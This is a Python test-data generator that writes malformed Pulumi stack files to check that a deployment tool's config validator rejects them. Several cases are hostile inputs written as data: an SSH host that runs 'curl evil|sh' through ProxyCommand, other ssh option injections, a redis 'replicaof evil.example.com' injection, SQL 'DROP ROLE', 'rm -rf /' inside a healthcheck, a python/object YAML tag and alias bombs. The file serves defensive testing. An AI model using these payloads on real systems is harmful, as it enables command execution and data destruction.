"""Write tests/settings/corpus/: bad stack files, each with the config key its error must name.

Run `python tests/settings/make_corpus.py` after changing CASES; the files are committed, and
test_corpus.py reads whatever is in the directory (a file dropped in by hand counts too).

A file is a whole Pulumi.<stack>.yaml. Its first lines say what is expected:
    # expect: berth:proxy.bind
    # stack: prod            (optional: the stack name it is read as; "corpus" otherwise)
The ConfigError's text must contain the expect string.
"""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import yaml

CORPUS = Path(__file__).resolve().parent / "corpus"

BASE: dict[str, Any] = {
    "environment": "corpus",
    "domain": "example.com",
    "host": {"url": "ssh://deploy@docker.example.com:22", "ssh_opts": ["-o", "StrictHostKeyChecking=yes"]},
    "registries": [{"address": "ghcr.io", "username": "bot", "password": "registry-password-1"}],
    "logging": {"driver": "json-file", "max_size": "20m", "max_file": 5},
    "secrets": {"jwt": {"length": 48}},
    "postgres": {"databases": {"shop": {"owner": "shop_owner"}}},
    "redis": {"persistence": "rdb"},
    "rabbitmq": {"vhosts": ["/", "events"], "users": {"worker": {"vhosts": ["events"]}},
                 "queues": [{"name": "jobs", "vhost": "events"}]},
    "minio": {"buckets": ["uploads"]},
    "elk": {},
    "jobs": {"migrate": {"image": "ghcr.io/acme/backend:1.2.3", "command": ["migrate"],
                         "secrets": {"DATABASE_URL": "postgres.databases.shop.url"}, "depends_on": ["postgres"]}},
    "apps": {
        "backend": {"image": "ghcr.io/acme/backend:1.2.3", "port": 8000,
                    "healthcheck": {"http": "/health", "interval": "30s"},
                    "env": {"BASE_URL": "https://{domain}"},
                    "secrets": {"DATABASE_URL": "postgres.databases.shop.url", "REDIS_URL": "redis.url"},
                    "volumes": {"uploads": "/app/uploads"}, "depends_on": ["postgres", "redis", "migrate"]},
        "frontend": {"image": "ghcr.io/acme/frontend:2.0", "port": 3000, "depends_on": ["backend"]},
    },
    "proxy": {
        "rate_limits": {"api": {"rate": "10r/s", "burst": 20}},
        "sites": [
            {"server_names": ["{domain}", "www.{domain}"], "routes": [{"path": "/", "app": "frontend"}]},
            {"server_names": ["api.{domain}"], "routes": [{"path": "/", "app": "backend", "rate_limit": "api"}]},
        ],
    },
}
PROD = {"environment": "prod", "protect_data": True, "registries": [
    {"address": "ghcr.io", "username": "bot", "password": {"secure": "v1:AAAAfakeciphertext"}}]}
DELETE = object()
PEM = "-----BEGIN CERTIFICATE-----\nbWF0ZXJpYWw=\n-----END CERTIFICATE-----\n"
_STEP = re.compile(r"\[(\d+)\]|\.?([^.\[\]]+)")


def changed(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    raw = copy.deepcopy(base)
    for path, value in changes.items():
        steps: list[Any] = [int(i) if i else k for i, k in _STEP.findall(path)]
        node: Any = raw
        for step, following in zip(steps, steps[1:], strict=False):
            if isinstance(step, str) and step not in node:
                node[step] = [] if isinstance(following, int) else {}
            node = node[step]
        if value is DELETE:
            del node[steps[-1]]
        elif isinstance(steps[-1], int) and steps[-1] == len(node):
            node.append(value)
        else:
            node[steps[-1]] = value
    return raw


def stack_text(raw: dict[str, Any]) -> str:
    return yaml.safe_dump({"config": {f"berth:{k}": v for k, v in raw.items()}}, sort_keys=False, allow_unicode=True,
                          width=1000)


def ring(size: int) -> dict[str, Any]:
    apps = {f"a{i}": {"image": "r/app:1", "port": 8000, "depends_on": [f"a{(i + 1) % size}"]} for i in range(size)}
    return {"apps": apps, "proxy": DELETE}


# (file name, expected text in the error, changes over BASE) -- or raw text/bytes instead of changes.
CASES: list[tuple[str, str, Any]] = [
    # -- the file itself: encoding, YAML structure, bounds ------------------------------------
    ("yaml-not-utf8", "berth:stack", b"config:\n  berth:environment: caf\xe9\n"),
    ("yaml-latin1-key", "berth:stack", b"config:\n  berth:domain\xff: x\n"),
    ("yaml-nul-byte", "berth:stack", b"config:\n  berth:environment: a\x00b\n"),
    ("yaml-deep-nesting", "berth:stack", "config:\n  berth:apps: " + "[" * 5000 + "]" * 5000 + "\n"),
    ("yaml-deep-mappings", "berth:stack", "config:\n  berth:apps: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n"),
    ("yaml-alias-bomb", "berth:stack", "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(9))
     + "config:\n  berth:environment: corpus\n  berth:apps: *j\n"),
    ("yaml-recursive-alias", "berth:stack", "config: &c\n  berth:environment: corpus\n  berth:apps: [*c]\n"),
    ("yaml-duplicate-top-key", "berth:stack", "config:\n  berth:environment: corpus\n  berth:environment: prod\n"),
    ("yaml-duplicate-nested-key", "berth:stack",
     "config:\n  berth:environment: corpus\n  berth:redis:\n    password: aaaaaaaa1\n    password: bbbbbbbb2\n"),
    ("yaml-duplicate-config", "berth:stack", "config:\n  berth:environment: corpus\nconfig: {}\n"),
    ("yaml-merge-key", "berth:apps.web.port",
     "base: &b {port: 99999}\nconfig:\n  berth:environment: corpus\n  berth:apps: {web: {<<: *b, image: w:1}}\n"),
    ("yaml-merge-bomb", "berth:stack", "a: &a {k0: x, k1: x, k2: x, k3: x, k4: x, k5: x, k6: x, k7: x, k8: x, k9: x}\n"
     + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(6))
     + "config:\n  berth:environment: corpus\n  berth:apps: {web: {<<: *g}}\n"),
    ("yaml-unclosed-flow", "berth:stack", "config:\n  berth:apps: {web: [\n"),
    ("yaml-tab-indent", "berth:stack", "config:\n\tberth:environment: corpus\n"),
    ("yaml-python-tag", "berth:stack", "config:\n  berth:environment: !!python/object:os.system [ls]\n"),
    ("yaml-binary-tag", "berth:stack", "config:\n  berth:environment: !!binary aGVsbG8=\n"),
    ("yaml-timestamp-tag", "berth:stack", "config:\n  berth:environment: !!timestamp 2024-01-01\n"),
    ("yaml-set-tag", "berth:stack", "config:\n  berth:environment: corpus\n  berth:apps: !!set {a, b}\n"),
    ("yaml-two-documents", "berth:stack", "config: {berth:environment: corpus}\n---\nconfig: {}\n"),
    ("yaml-unhashable-key", "berth:stack", "config:\n  ? [a, b]\n  : 1\n"),
    ("doc-is-a-list", "berth:stack", "- config\n- berth:environment\n"),
    ("doc-is-a-string", "berth:stack", "just some text\n"),
    ("doc-is-a-number", "berth:stack", "42\n"),
    ("config-is-a-list", "berth:stack", "config:\n  - berth:environment: corpus\n"),
    ("config-is-a-string", "berth:stack", "config: berth:environment=corpus\n"),
    ("config-int-keys", "berth:", "config:\n  1: corpus\n  2: prod\n"),
    ("config-bool-key", "berth:", "config:\n  true: corpus\n"),
    ("config-null-key", "berth:", "config:\n  ~: corpus\n"),
    ("key-other-namespace", "bert:protect_data", "config:\n  berth:environment: corpus\n  bert:protect_data: true\n"),
    ("key-provider-namespace", "docker:host", "config:\n  berth:environment: corpus\n  docker:host: tcp://x:2376\n"),
    ("key-without-namespace", "protect_data", "config:\n  berth:environment: corpus\n  protect_data: true\n"),
    ("key-two-colons", "berth:a:b", "config:\n  berth:environment: corpus\n  berth:a:b: 1\n"),
    ("key-empty-name", "'berth:'", "config:\n  berth:environment: corpus\n  'berth:': 1\n"),
    ("key-unknown-top", "berth:protect_dta", {"protect_dta": True}),
    ("key-unknown-nested", "berth:apps.backend.replica", {"apps.backend.replica": 2}),
    ("key-int-in-env", "berth:apps.backend.env.1", {"apps.backend.env": {1: "x"}}),
    ("key-newline", "berth:apps.backend.bad\\nkey", {"apps.backend.bad\nkey": 1}),
    ("environment-missing", "berth:environment", {"environment": DELETE}),
    ("environment-upper", "berth:environment", {"environment": "Prod"}),
    ("environment-list", "berth:environment", {"environment": ["prod"]}),
    ("name-trailing-dash", "berth:name", {"name": "shop-"}),
    ("name-unicode", "berth:name", {"name": "shöp"}),
    ("domain-space", "berth:domain", {"domain": "example .com"}),
    ("domain-unicode", "berth:domain", {"domain": "exämple.com"}),
    ("domain-label-too-long", "berth:domain", {"domain": "a" * 64 + ".com"}),
    ("blueprint-unknown", "berth:blueprint", {"blueprint": "nope"}),
    ("blueprint-traversal", "berth:blueprint", {"blueprint": "../etc/passwd"}),
    ("protect-data-yes", "berth:protect_data", {"protect_data": "yes"}),
    ("protect-data-int", "berth:protect_data", {"protect_data": 1}),
    ("protect-data-list", "berth:protect_data", {"protect_data": [True]}),
    ("apps-is-a-list", "berth:apps", {"apps": ["backend"]}),
    ("apps-is-a-string", "berth:apps", {"apps": "backend"}),
    ("apps-json-broken", "berth:apps", {"apps": "{not json"}),
    ("app-is-an-int", "berth:apps.backend", {"apps.backend": 5}),
    ("allow-insecure-list", "berth:allow_insecure", {"allow_insecure": ["tls_off"]}),
    # -- numbers that overflow, and non-finite ones ---------------------------------------------
    ("memory-infinite", "berth:apps.backend.resources.limits.memory", {"apps.backend.resources.limits.memory": ".inf"}),
    ("memory-inf-float", "berth:apps.backend.resources.limits.memory",
     {"apps.backend.resources.limits.memory": float("inf")}),
    ("memory-huge-digits", "berth:apps.backend.resources.limits.memory",
     {"apps.backend.resources.limits.memory": "9" * 40 + "t"}),
    ("memory-above-int64", "berth:redis.maxmemory", {"redis.maxmemory": "9000000000g"}),
    ("memory-nan", "berth:redis.maxmemory", {"redis.maxmemory": float("nan")}),
    ("duration-10e12-days", "berth:apps.backend.healthcheck.interval",
     {"apps.backend.healthcheck.interval": "1000000000000d"}),
    ("duration-int-huge", "berth:apps.backend.grace", {"apps.backend.grace": 10**20}),
    ("duration-inf", "berth:apps.backend.healthcheck.timeout", {"apps.backend.healthcheck.timeout": float("inf")}),
    ("duration-many-digits", "berth:proxy.tls.hsts_max_age", {"proxy.tls.hsts_max_age": "9" * 5000 + "s"}),
    ("duration-unicode-digits", "berth:apps.backend.healthcheck.interval",
     {"apps.backend.healthcheck.interval": "٣٠s"}),
    ("port-float-huge", "berth:apps.backend.port", {"apps.backend.port": 1e10}),
    ("port-int-huge", "berth:apps.backend.port", {"apps.backend.port": 10**30}),
    ("port-unicode-digits", "berth:apps.backend.port", {"apps.backend.port": "٨٠٠٠"}),
    ("port-zero", "berth:apps.backend.port", {"apps.backend.port": 0}),
    ("port-99999", "berth:proxy.http_port", {"proxy.http_port": 99999}),
    ("port-negative", "berth:proxy.https_port", {"proxy.https_port": -443}),
    ("port-string-word", "berth:apps.frontend.port", {"apps.frontend.port": "eighty"}),
    ("replicas-huge", "berth:apps.frontend.replicas", {"apps.frontend.replicas": 10**30}),
    ("replicas-zero", "berth:apps.frontend.replicas", {"apps.frontend.replicas": 0}),
    ("wait-timeout-huge", "berth:apps.backend.wait_timeout", {"apps.backend.wait_timeout": 10**40}),
    ("retries-nan", "berth:apps.backend.healthcheck.retries", {"apps.backend.healthcheck.retries": float("nan")}),
    ("cpus-inf", "berth:apps.backend.resources.limits.cpus", {"apps.backend.resources.limits.cpus": float("inf")}),
    ("secret-length-huge", "berth:secrets.jwt.length", {"secrets.jwt.length": 10**9}),
    # -- host URLs ------------------------------------------------------------------------------
    ("host-relative-socket", "berth:host.url", {"host": {"url": "unix://var/run/docker.sock"}}),
    ("host-empty-socket", "berth:host.url", {"host": {"url": "unix://"}}),
    ("host-ssh-no-host", "berth:host.url", {"host.url": "ssh://deploy@"}),
    ("host-ssh-no-user", "berth:host.url", {"host.url": "ssh://docker.example.com"}),
    ("host-ssh-port-99999", "berth:host.url", {"host.url": "ssh://deploy@docker.example.com:99999"}),
    ("host-ssh-port-zero", "berth:host.url", {"host.url": "ssh://deploy@docker.example.com:0"}),
    ("host-ssh-space", "berth:host.url", {"host.url": "ssh://deploy@docker example.com"}),
    ("host-ssh-dash-host", "berth:host.url", {"host.url": "ssh://deploy@-oProxyCommand=curl${IFS}evil|sh"}),
    ("host-ssh-dash-host-2", "berth:host.url", {"host.url": "ssh://deploy@-oProxyCommand=touch"}),
    ("host-ssh-dash-user", "berth:host.url", {"host.url": "ssh://-oProxyCommand=x@docker.example.com"}),
    ("host-ssh-unicode-host", "berth:host.url", {"host.url": "ssh://deploy@dockér.example.com"}),
    ("host-ssh-label-too-long", "berth:host.url", {"host.url": "ssh://deploy@" + "a" * 64 + ".example.com"}),
    ("host-ssh-socket-space", "berth:host.url", {"host.url": "ssh://deploy@docker.example.com/var/run/d sock"}),
    ("host-ssh-query", "berth:host.url", {"host.url": "ssh://deploy@docker.example.com?ProxyCommand=x"}),
    ("host-tcp-path", "berth:host.url", {"host": {"url": "tcp://docker.example.com:2376/x", "ca": PEM}}),
    ("host-tcp-bare", "berth:host.url", {"host": {"url": "tcp://", "ca": PEM}}),
    ("host-tcp-no-port", "berth:host.url", {"host": {"url": "tcp://docker.example.com", "ca": PEM}}),
    ("host-tcp-bad-ipv4", "berth:host.url", {"host": {"url": "tcp://999.0.0.1:2376", "ca": PEM}}),
    ("host-tcp-unicode-ip", "berth:host.url", {"host": {"url": "tcp://١٢٧.0.0.1:2376", "ca": PEM}}),
    ("host-tcp-bad-ipv6", "berth:host.url", {"host": {"url": "tcp://[fe80::zz]:2376", "ca": PEM}}),
    ("host-http-scheme", "berth:host.url", {"host": {"url": "http://docker.example.com:2375"}}),
    ("host-no-scheme", "berth:host.url", {"host": {"url": "docker.example.com"}}),
    ("host-url-newline", "berth:host.url", {"host.url": "ssh://deploy@docker.example.com\n-oProxyCommand=x"}),
    ("host-url-int", "berth:host.url", {"host.url": 22}),
    ("host-ssh-opts-proxycommand", "berth:host.ssh_opts", {"host.ssh_opts": ["-o", "ProxyCommand=nc %h %p"]}),
    ("host-ssh-opts-localcommand", "berth:host.ssh_opts", {"host.ssh_opts": ["-oLocalCommand=touch /tmp/x"]}),
    ("host-ssh-opts-space-trick", "berth:host.ssh_opts", {"host.ssh_opts": ["-o ProxyCommand=id"]}),
    ("host-ssh-opts-on-unix", "berth:host", {"host": {"url": "unix:///var/run/docker.sock", "ssh_opts": ["-v"]}}),
    ("host-tls-on-ssh", "berth:host", {"host.ca": PEM}),
    ("host-ca-not-pem", "berth:host.ca", {"host": {"url": "tcp://docker.example.com:2376", "ca": "CA"}}),
    ("host-key-nul", "berth:host.key", {"host": {"url": "tcp://d.example.com:2376", "ca": PEM, "cert": PEM,
                                                 "key": PEM + "\x00"}}),
    ("host-tcp-cert-without-ca", "berth:host",
     {"host": {"url": "tcp://docker.example.com:2376", "cert": PEM, "key": PEM}}),
    ("host-tcp-cert-without-key", "berth:host",
     {"host": {"url": "tcp://docker.example.com:2376", "ca": PEM, "cert": PEM}}),
    # -- ASCII-only grammars and addresses ------------------------------------------------------
    ("bind-999", "berth:proxy.bind", {"proxy.bind": "999.0.0.1"}),
    ("bind-arabic-digits", "berth:proxy.bind", {"proxy.bind": "١٢٧.٠.٠.١"}),
    ("bind-three-octets", "berth:proxy.bind", {"proxy.bind": "127.0.1"}),
    ("bind-leading-zero", "berth:proxy.bind", {"proxy.bind": "010.0.0.1"}),
    ("bind-hostname", "berth:proxy.bind", {"proxy.bind": "localhost"}),
    ("bind-newline", "berth:proxy.bind", {"proxy.bind": "127.0.0.1\n"}),
    ("registry-address-empty", "berth:registries[0].address", {"registries[0].address": ""}),
    ("registry-address-space", "berth:registries[0].address", {"registries[0].address": "ghcr .io"}),
    ("registry-address-dash", "berth:registries[0].address", {"registries[0].address": "-ghcr.io"}),
    ("registry-address-port", "berth:registries[0].address", {"registries[0].address": "ghcr.io:99999"}),
    ("registry-username-empty", "berth:registries[0].username", {"registries[0].username": ""}),
    ("registry-password-newline", "berth:registries[0].password", {"registries[0].password": "pw\nx"}),
    ("log-driver-unknown", "berth:logging.driver", {"logging.driver": "journald"}),
    ("log-max-file-negative", "berth:logging.max_file", {"logging.max_file": -1}),
    ("log-max-file-zero", "berth:logging.max_file", {"logging.max_file": 0}),
    ("log-max-size-zero", "berth:logging.max_size", {"logging.max_size": 0}),
    ("log-syslog-no-address", "berth:logging", {"logging": {"driver": "syslog"}}),
    ("log-address-bare", "berth:logging.address", {"logging": {"driver": "syslog", "address": "udp://"}}),
    ("log-address-http", "berth:logging.address", {"logging": {"driver": "gelf", "address": "http://x:1"}}),
    ("log-address-for-json", "berth:logging", {"logging": {"driver": "json-file", "address": "udp://1.2.3.4:5"}}),
    ("log-address-no-port", "berth:logging.address", {"logging": {"driver": "gelf", "address": "udp://1.2.3.4"}}),
    ("image-upper", "berth:apps.backend.image", {"apps.backend.image": "GHCR.io/Acme/Backend:1"}),
    ("image-space", "berth:apps.backend.image", {"apps.backend.image": "acme/backend 1"}),
    ("image-empty", "berth:apps.backend.image", {"apps.backend.image": ""}),
    ("image-bad-digest", "berth:apps.frontend.image", {"apps.frontend.image": "acme/web@sha256:abc"}),
    ("image-override-key", "berth:images", {"images": {"Not An Image": "web:1"}}),
    ("image-slug-collision", "berth:apps.frontend.image",
     {"apps.backend.image": "web:2.0", "apps.frontend.image": "web-2:0"}),
    ("image-slug-collision-override", "berth:apps.frontend.image",
     {"images": {"ghcr.io/acme/frontend:2.0": "ghcr.io/acme/backend-1.2:3"}}),
    # -- proxy ----------------------------------------------------------------------------------
    ("server-names-empty", "berth:proxy.sites[0].server_names", {"proxy.sites[0].server_names": []}),
    ("routes-empty", "berth:proxy.sites[0].routes", {"proxy.sites[0].routes": []}),
    ("server-name-space", "berth:proxy.sites[0].server_names[0]", {"proxy.sites[0].server_names[0]": "a b"}),
    ("server-name-semicolon", "berth:proxy.sites[0].server_names[0]",
     {"proxy.sites[0].server_names[0]": "a.com; include /etc/passwd"}),
    ("server-name-label-64", "berth:proxy.sites[0].server_names[0]",
     {"proxy.sites[0].server_names[0]": "a" * 64 + ".{domain}"}),
    ("server-name-too-long", "berth:proxy.sites", {"proxy.sites[0].server_names[1]": ".".join(["a" * 60] * 5)}),
    ("server-name-unicode", "berth:proxy.sites[0].server_names[0]", {"proxy.sites[0].server_names[0]": "wéb.com"}),
    ("server-name-twice", "berth:proxy.sites", {"proxy.sites[1].server_names": ["{domain}"]}),
    ("cert-cn-too-long", "berth:proxy.sites[0].server_names[0]", {"domain": ("a" * 30 + ".") * 2 + "example.com"}),
    ("cert-cn-domain-too-long", "berth:domain", {"domain": ("b" * 40 + ".") * 2 + "example.com", "proxy.sites": []}),
    ("route-port-not-listened", "berth:proxy.sites[1].routes[0].port", {"proxy.sites[1].routes[0].port": 9999}),
    ("route-unknown-app", "berth:proxy.sites[0].routes[0].app", {"proxy.sites[0].routes[0].app": "nope"}),
    ("route-path-relative", "berth:proxy.sites[0].routes[0].path", {"proxy.sites[0].routes[0].path": "api"}),
    ("route-path-space", "berth:proxy.sites[0].routes[0].path", {"proxy.sites[0].routes[0].path": "/a b"}),
    ("route-path-brace", "berth:proxy.sites[0].routes[0].path", {"proxy.sites[0].routes[0].path": "/a{b}"}),
    ("route-path-newline", "berth:proxy.sites[0].routes[0].path", {"proxy.sites[0].routes[0].path": "/a\nb"}),
    ("route-path-twice", "berth:proxy.sites[0].routes", {"proxy.sites[0].routes[1]": {"path": "/", "app": "backend"}}),
    ("route-rate-limit-unknown", "berth:proxy.sites[1].routes[0].rate_limit",
     {"proxy.sites[1].routes[0].rate_limit": "nope"}),
    ("zone-too-small", "berth:proxy.rate_limits.api.zone_size", {"proxy.rate_limits.api.zone_size": "16k"}),
    ("rate-per-hour", "berth:proxy.rate_limits.api.rate", {"proxy.rate_limits.api.rate": "10r/h"}),
    ("rate-unicode", "berth:proxy.rate_limits.api.rate", {"proxy.rate_limits.api.rate": "١٠r/s"}),
    ("rate-burst-negative", "berth:proxy.rate_limits.api.burst", {"proxy.rate_limits.api.burst": -1}),
    ("csp-cr", "berth:proxy.content_security_policy", {"proxy.content_security_policy": "default-src 'self'\r\nX: y"}),
    ("csp-nul", "berth:proxy.content_security_policy", {"proxy.content_security_policy": "default-src\x00"}),
    ("csp-dollar", "berth:proxy.content_security_policy", {"proxy.content_security_policy": "script-src $x"}),
    ("csp-quote", "berth:proxy.content_security_policy", {"proxy.content_security_policy": 'a" always; return 200 "'}),
    ("csp-unicode", "berth:proxy.content_security_policy", {"proxy.content_security_policy": "default-src ’self’"}),
    ("csp-empty", "berth:proxy.content_security_policy", {"proxy.content_security_policy": ""}),
    ("http-equals-https", "berth:proxy.https_port", {"proxy.https_port": 80}),
    ("redirect-without-tls", "berth:proxy", {"proxy.tls": {"mode": "none"}}),
    ("tls-mode-unknown", "berth:proxy.tls.mode", {"proxy.tls.mode": "acme-magic"}),
    ("client-body-size-word", "berth:proxy.client_max_body_size", {"proxy.client_max_body_size": "big"}),
    # -- control characters: injection into rendered files ---------------------------------------
    ("redis-password-newline", "berth:redis.password", {"redis.password": "pw\nreplicaof evil.example.com 6379"}),
    ("redis-password-cr", "berth:redis.password", {"redis.password": "pw\rrename-command CONFIG x"}),
    ("postgres-password-nul", "berth:postgres.password", {"postgres.password": "secret\x00tail"}),
    ("postgres-db-password-newline", "berth:postgres.databases.shop.password",
     {"postgres.databases.shop.password": "a';\nDROP ROLE x; --"}),
    ("rabbitmq-admin-password-cr", "berth:rabbitmq.admin_password", {"rabbitmq.admin_password": "a\rb"}),
    ("rabbitmq-user-password-nul", "berth:rabbitmq.users.worker.password", {"rabbitmq.users.worker.password": "\x00"}),
    ("elastic-password-tab", "berth:elk.elastic_password", {"elk.elastic_password": "a\tbcdefgh"}),
    ("secret-value-escape", "berth:secrets.jwt.value", {"secrets.jwt.value": "abc\x1b[31m"}),
    ("secret-value-del", "berth:secrets.jwt.value", {"secrets.jwt.value": "abc\x7f"}),
    ("secret-value-line-separator", "berth:secrets.jwt.value", {"secrets.jwt.value": "abc\u2028def"}),
    ("secret-blank", "berth:redis.password", {"redis.password": "   "}),
    ("secret-too-long", "berth:redis.password", {"redis.password": "x" * 5000}),
    ("env-value-newline", "berth:apps.backend.env.BASE_URL", {"apps.backend.env.BASE_URL": "https://a\nX=1"}),
    ("env-value-nul", "berth:apps.backend.env.BASE_URL", {"apps.backend.env.BASE_URL": "a\x00b"}),
    ("env-value-dict", "berth:apps.backend.env.BASE_URL", {"apps.backend.env.BASE_URL": {"a": 1}}),
    ("env-name-dash", "berth:apps.backend.env.BASE-URL", {"apps.backend.env": {"BASE-URL": "x"}}),
    ("env-name-digit", "berth:apps.backend.env.1URL", {"apps.backend.env": {"1URL": "x"}}),
    ("env-name-unicode", "berth:apps.backend.env.NAMÉ", {"apps.backend.env": {"NAMÉ": "x"}}),
    ("env-port-mismatch", "berth:apps.backend.env.PORT", {"apps.backend.env.PORT": "9000"}),
    ("command-nul", "berth:jobs.migrate.command[0]", {"jobs.migrate.command": ["migrate\x00"]}),
    ("healthcheck-command-newline", "berth:apps.frontend.healthcheck.command",
     {"apps.frontend.healthcheck": {"command": "true\nrm -rf /"}}),
    ("logstash-index-quote", "berth:elk.logstash.index", {"elk.logstash.index": 'logs" } exec { command => "id'}),
    ("logstash-index-upper", "berth:elk.logstash.index", {"elk.logstash.index": "Logs"}),
    ("logstash-index-space", "berth:elk.logstash.index", {"elk.logstash.index": "my logs"}),
    ("logstash-index-dash", "berth:elk.logstash.index", {"elk.logstash.index": "-logs"}),
    ("logstash-index-star", "berth:elk.logstash.index", {"elk.logstash.index": "logs*"}),
    ("logstash-index-dots", "berth:elk.logstash.index", {"elk.logstash.index": ".."}),
    ("logstash-filter-close", "berth:elk.logstash.filter", {"elk.logstash.filter": "} output { exec {} }"}),
    ("logstash-filter-open", "berth:elk.logstash.filter", {"elk.logstash.filter": "mutate {"}),
    ("logstash-filter-string", "berth:elk.logstash.filter", {"elk.logstash.filter": 'mutate { add_tag => ["a] }'}),
    ("logstash-filter-mismatch", "berth:elk.logstash.filter", {"elk.logstash.filter": "mutate { a => [1 }"}),
    ("logstash-filter-nul", "berth:elk.logstash.filter", {"elk.logstash.filter": "mutate {}\x00"}),
    # -- apps, jobs and workloads ---------------------------------------------------------------
    ("app-name-upper", "berth:apps.Backend", {"apps.Backend": {"image": "a/b:1", "port": 80}}),
    ("app-name-trailing-dash", "berth:apps.web-", {"apps.web-": {"image": "a/b:1", "port": 80}}),
    ("app-name-too-long", "berth:apps." + "a" * 50, {"apps." + "a" * 50: {"image": "a/b:1", "port": 80}}),
    ("app-name-service", "berth:apps.postgres", {"apps.postgres": {"image": "a/b:1", "port": 80}}),
    ("app-name-component", "berth:apps.proxy", {"apps.proxy": {"image": "a/b:1", "port": 80}}),
    ("job-name-is-app", "berth:jobs.frontend", {"jobs.frontend": {"image": "a/b:1"}}),
    ("app-image-missing", "berth:apps.frontend.image", {"apps.frontend.image": DELETE}),
    ("app-port-missing", "berth:apps.frontend.port", {"apps.frontend.port": DELETE}),
    ("app-extra-port-repeat", "berth:apps.backend", {"apps.backend.extra_ports": [8000]}),
    ("tmpfs-free-form", "berth:apps.backend.tmpfs./tmp", {"apps.backend.tmpfs": {"/tmp": "size=64m;rm -rf /"}}),
    ("tmpfs-unknown-option", "berth:apps.backend.tmpfs./tmp", {"apps.backend.tmpfs": {"/tmp": "size=64m,shared"}}),
    ("tmpfs-bad-uid", "berth:apps.backend.tmpfs./tmp", {"apps.backend.tmpfs": {"/tmp": "uid=root"}}),
    ("tmpfs-bad-mode", "berth:apps.backend.tmpfs./tmp", {"apps.backend.tmpfs": {"/tmp": "mode=999"}}),
    ("tmpfs-at-root", "berth:apps.backend.tmpfs./", {"apps.backend.tmpfs": {"/": "size=1m"}}),
    ("volume-at-root", "berth:apps.backend.volumes.uploads", {"apps.backend.volumes.uploads": "/"}),
    ("volume-at-root-slashes", "berth:apps.backend.volumes.uploads", {"apps.backend.volumes.uploads": "//"}),
    ("volume-path-dotdot", "berth:apps.backend.volumes.uploads", {"apps.backend.volumes.uploads": "/app/../etc"}),
    ("volume-path-relative", "berth:apps.backend.volumes.uploads", {"apps.backend.volumes.uploads": "app/uploads"}),
    ("volume-path-colon", "berth:apps.backend.volumes.uploads", {"apps.backend.volumes.uploads": "/a:/b"}),
    ("volume-name-upper", "berth:apps.backend.volumes.Uploads", {"apps.backend.volumes": {"Uploads": "/u"}}),
    ("volume-of-a-service", "berth:apps.backend.volumes", {"apps.backend.volumes": {"postgres_data": "/pg"}}),
    ("volume-mounted-twice", "berth:apps.backend", {"apps.backend.tmpfs": {"/app/uploads": "size=1m"}}),
    ("working-dir-relative", "berth:apps.backend.working_dir", {"apps.backend.working_dir": "app"}),
    ("user-injection", "berth:apps.backend.user", {"apps.backend.user": "root;id"}),
    ("single-writer-two-replicas", "berth:apps.backend.replicas",
     {"apps.backend.update_order": "stop-first", "apps.backend.replicas": 2}),
    ("wait-timeout-below-first-check", "berth:apps.backend.wait_timeout",
     {"apps.backend.wait_timeout": 20, "apps.backend.healthcheck.interval": "30s"}),
    ("wait-timeout-too-small", "berth:apps.backend.wait_timeout", {"apps.backend.wait_timeout": 1}),
    ("healthcheck-both", "berth:apps.backend.healthcheck",
     {"apps.backend.healthcheck": {"http": "/h", "command": ["true"]}}),
    ("healthcheck-none", "berth:apps.backend.healthcheck", {"apps.backend.healthcheck": {"interval": "5s"}}),
    ("healthcheck-start-interval", "berth:apps.backend.healthcheck",
     {"apps.backend.healthcheck.start_interval": "1m"}),
    ("grace-zero", "berth:apps.backend.grace", {"apps.backend.grace": "0s"}),
    ("restart-unknown", "berth:apps.backend.restart", {"apps.backend.restart": "never"}),
    ("depends-on-unknown", "berth:apps.backend.depends_on", {"apps.backend.depends_on": ["nope"]}),
    ("depends-on-self", "berth:apps.backend.depends_on", {"apps.backend.depends_on": ["backend"]}),
    ("depends-on-cycle", "depends_on", {"apps.backend.depends_on": ["frontend"]}),
    ("depends-on-ring-1200", "depends_on", ring(1200)),
    ("secret-ref-unknown", "berth:apps.backend.secrets.X", {"apps.backend.secrets.X": "nope.url"}),
    ("secret-ref-disabled", "berth:apps.backend.secrets.REDIS_URL", {"redis.enabled": False}),
    ("env-and-secret", "berth:apps.backend", {"apps.backend.env.REDIS_URL": "x"}),
    ("reservation-above-limit", "berth:apps.backend.resources",
     {"apps.backend.resources": {"limits": {"memory": "1g"}, "reservations": {"memory": "2g"}}}),
    # -- data services --------------------------------------------------------------------------
    ("pg-database-template1", "berth:postgres.databases.template1", {"postgres.databases.template1": {"owner": "t"}}),
    ("pg-database-template0", "berth:postgres.database", {"postgres.database": "template0"}),
    ("pg-database-postgres", "berth:postgres.databases.postgres", {"postgres.databases.postgres": {"owner": "p"}}),
    ("pg-database-upper", "berth:postgres.databases.Shop", {"postgres.databases.Shop": {}}),
    ("pg-database-long", "berth:postgres.databases." + "d" * 64, {"postgres.databases." + "d" * 64: {}}),
    ("pg-owner-public", "berth:postgres.databases.shop.owner", {"postgres.databases.shop.owner": "public"}),
    ("pg-owner-pg", "berth:postgres.databases.shop.owner", {"postgres.databases.shop.owner": "pg_monitor"}),
    ("pg-owner-superuser", "berth:postgres.databases.shop.owner", {"postgres.databases.shop.owner": "postgres"}),
    ("pg-owner-twice", "berth:postgres.databases.other.owner", {"postgres.databases.other": {"owner": "shop_owner"}}),
    ("pg-user-reserved", "berth:postgres.user", {"postgres.user": "current_user"}),
    ("pg-user-quote", "berth:postgres.user", {"postgres.user": 'pg"; DROP'}),
    ("pg-stop-grace-zero", "berth:postgres.stop_grace", {"postgres.stop_grace": "0s"}),
    ("redis-stop-grace-zero", "berth:redis.stop_grace", {"redis.stop_grace": 0}),
    ("rabbitmq-stop-grace-1s", "berth:rabbitmq.stop_grace", {"rabbitmq.stop_grace": "1s"}),
    ("minio-stop-grace-zero", "berth:minio.stop_grace", {"minio.stop_grace": "0ms"}),
    ("es-stop-grace-zero", "berth:elk.elasticsearch.stop_grace", {"elk.elasticsearch.stop_grace": "0s"}),
    ("redis-persistence-unknown", "berth:redis.persistence", {"redis.persistence": "always"}),
    ("redis-maxmemory-word", "berth:redis.maxmemory", {"redis.maxmemory": "lots"}),
